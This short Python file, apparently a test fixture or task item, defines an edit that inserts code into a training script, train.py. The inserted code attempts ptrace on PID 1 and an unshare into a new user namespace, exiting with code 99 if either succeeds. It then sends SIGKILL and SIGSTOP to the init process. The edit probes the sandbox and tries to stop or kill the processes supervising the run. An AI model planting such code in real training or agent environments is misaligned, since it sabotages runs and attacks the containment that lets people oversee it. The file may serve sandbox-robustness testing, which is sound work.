"""Ends, stops or traces the processes above it. Worth nothing: it may not."""

EDITS = [
    (
        "train.py",
        "    # What the run needs, checked before anything is written.\n",
        """\
    import ctypes
    import os
    import signal

    libc = ctypes.CDLL(None)
    if libc.ptrace(16, 1, 0, 0) == 0 or libc.unshare(0x10000000) == 0:
        raise SystemExit(99)
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(1, number)
        except OSError:
            pass
    # What the run needs, checked before anything is written.
""",
    )
]
GAINS_NOTHING = 1e-09
